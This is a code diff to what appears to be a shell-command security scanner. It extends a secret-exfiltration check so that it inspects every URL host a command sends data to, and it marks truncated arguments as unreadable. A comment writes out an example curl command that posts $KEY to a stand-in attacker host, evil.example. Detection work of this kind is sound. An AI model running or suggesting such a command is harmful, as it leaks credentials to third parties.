@@ -45,6 +45,8 @@ struct command {
 	TSNode args[LIMIT_SHELL_ARGS];
 	int argc, first; /* first: index of the first argument after wrappers */
 	bool sudo;
+	bool cut; /* arguments past LIMIT_SHELL_ARGS (or children past
+		     LIMIT_SHELL_CHILDREN) were not kept */
 };
 
 struct ctx {
@@ -146,11 +148,15 @@ static void command_read(const struct ctx *x, TSNode cmd, struct command *c)
 			continue;
 		if (strcmp(field, "name") == 0)
 			flat(x, ch, name, sizeof(name));
-		else if (strcmp(field, "argument") == 0 && c->argc < LIMIT_SHELL_ARGS) {
+		else if (strcmp(field, "argument") == 0 && c->argc >= LIMIT_SHELL_ARGS)
+			c->cut = true;
+		else if (strcmp(field, "argument") == 0) {
 			flat(x, ch, c->argv[c->argc], LIMIT_SHELL_ARG_BYTES);
 			c->args[c->argc++] = ch;
 		}
 	}
+	if (n == LIMIT_SHELL_CHILDREN)
+		c->cut = true;
 	snprintf(c->name, sizeof(c->name), "%s", base_name(name));
 	/* sudo env FOO=1 nohup curl ...: judge curl, remember sudo. */
 	while (in_list(c->name, strlen(c->name), SL_WRAPPERS)) {
@@ -473,19 +479,50 @@ static const char *uploaded_file(const struct command *c, int i)
 	return NULL;
 }
 
-/* The host of the first URL among the arguments, lower-cased into `host`;
- * "" when there is none, or when the argument may have been cut at LIMIT_SHELL_ARG_BYTES
- * (user:password@ can be long enough to push the real host past the cut). */
-static void url_host(const struct command *c, char *host, size_t cap)
+/* The hosts a command sends to: of every URL among its arguments, since
+ * curl sends its data to each one (curl -d "$KEY" https://vendor/
+ * https://evil.example/). `unread` when one has no host al_url_host trusts,
+ * or may have been cut at LIMIT_SHELL_ARG_BYTES (user:password@ can push
+ * the real host past the cut), or arguments were dropped. */
+struct url_hosts {
+	char v[LIMIT_SHELL_ARGS][128];
+	int n;
+	bool unread;
+};
+
+static void url_hosts(struct ctx *x, const struct command *c, struct url_hosts *h)
 {
-	host[0] = '\0';
+	int found;
+
+	h->n = 0;
+	h->unread = c->cut;
 	for (int i = c->first; i < c->argc; i++) {
 		if (!strstr(c->argv[i], "://"))
 			continue;
-		if (strlen(c->argv[i]) + 1 < LIMIT_SHELL_ARG_BYTES)
-			al_url_host(c->argv[i], host, cap);
-		return;
+		found = strlen(c->argv[i]) + 1 < LIMIT_SHELL_ARG_BYTES
+				? al_url_host(c->argv[i], h->v[h->n], sizeof(h->v[0]))
+				: 0;
+		if (found < 0)
+			x->error = found;
+		if (found == 1)
+			h->n++;
+		else
+			h->unread = true;
 	}
+}
+
+/* True when $var may go to every host the command sends to: its vendor's
+ * (a token named after a vendor) or the host named after it. False when the
+ * command names no host that can be read. */
+static bool sent_to_its_own(const char *var, const struct url_hosts *h)
+{
+	if (h->n == 0 || h->unread)
+		return false;
+	for (int i = 0; i < h->n; i++)
+		if (!(al_shell_foreign_vendor(var) && al_shell_vendor_host(var, h->v[i])) &&
+		    !al_shell_named_host(var, h->v[i]))
+			return false;
+	return true;
 }
 
 static void scan_inner(struct ctx *x, const struct command *c, int i);
@@ -618,9 +655,10 @@ static void judge_fetched_run(struct ctx *x, TSNode cmd, const struct command *c
  * lone sink the combinations look for. */
 static void judge_sink(struct ctx *x, TSNode cmd, const struct command *c, unsigned int f)
 {
-	char var[64], host[128];
+	char var[64];
+	struct url_hosts hosts;
 
-	url_host(c, host, sizeof(host));
+	url_hosts(x, c, &hosts);
 	for (int i = c->first; i < c->argc; i++) {
 		const char *file = uploaded_file(c, i);
 		unsigned int inner;
@@ -635,8 +673,7 @@ static void judge_sink(struct ctx *x, TSNode cmd, const struct command *c, unsig
 		if ((inner & F_SRC) && !al_ts_is(c->args[i], "word"))
 			strong(x, "AL210", cmd, "sends the output of a secret read (%s)", c->name);
 		if (expands_secret(x, c->args[i], var, sizeof(var)) &&
-		    !(al_shell_foreign_vendor(var) && al_shell_vendor_host(var, host)) &&
-		    !al_shell_named_host(var, host))
+		    !sent_to_its_own(var, &hosts))
 			strong(x, "AL210", cmd, "sends $%s", var);
 	}
 	if (!x->have_sink || ((f & F_SINK_RAW) && x->lone_sink_sev < AIRLOCK_SEVERITY_MEDIUM)) {
